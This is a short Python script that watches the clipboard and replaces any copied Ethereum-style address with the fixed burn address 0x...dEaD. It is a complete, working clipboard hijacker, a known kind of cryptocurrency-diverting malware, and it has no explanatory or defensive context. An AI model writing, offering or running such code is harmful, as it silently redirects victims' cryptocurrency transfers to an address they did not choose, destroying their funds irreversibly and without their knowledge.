import re, time, pyperclip
while True:
    if re.match(r"^0x[a-fA-F0-9]{40}$", pyperclip.paste()):
        pyperclip.copy("0x000000000000000000000000000000000000dEaD")
    time.sleep(1)
